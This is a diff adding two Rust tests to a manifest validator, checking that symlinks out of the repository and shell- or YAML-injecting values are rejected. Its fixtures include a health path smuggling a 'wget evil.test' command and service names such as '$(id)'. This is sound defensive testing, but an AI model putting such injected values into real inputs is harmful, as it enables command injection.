@@ -138,6 +138,32 @@ fn paths_must_exist_when_a_root_is_given() {
 }
 
 #[test]
+fn a_symbolic_link_out_of_the_repository_is_refused() {
+    let root = tempfile::tempdir().unwrap();
+    let outside = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(root.path().join("services")).unwrap();
+    std::os::unix::fs::symlink(outside.path(), root.path().join("services/battle-service")).unwrap();
+    let error = Manifest::parse(VALID, "services.toml", Some(root.path())).unwrap_err();
+    assert_eq!(error.problems.len(), 1, "{error:?}");
+    assert!(error.problems[0].message.contains("leads outside the repository through a symbolic link"), "{error:?}");
+}
+
+#[test]
+fn text_that_would_reach_a_shell_or_yaml_is_refused() {
+    // The health path goes into the HEALTHCHECK's shell command; names into commands and YAML.
+    let health = only_problem(
+        &VALID.replace("port = 3000", "port = 3000\nhealth = '/health\"; wget evil.test; \"'"),
+        19,
+        "service `battle-service`, key `health`",
+    );
+    assert!(health.message.contains("is not a plain URL path"), "{health:?}");
+    for name in ["battle;service", "battle service", "$(id)", "battle-service\n- evil"] {
+        let problems = problems(&VALID.replace("name = \"battle-service\"", &format!("name = {name:?}")));
+        assert!(problems.iter().any(|problem| problem.message.contains("is not kebab-case")), "{name}: {problems:?}");
+    }
+}
+
+#[test]
 fn kind_must_be_known() {
     let problem = only_problem(&VALID.replace("kind = \"node\"", "kind = \"nodejs\""), 16, "key `kind`");
     assert!(
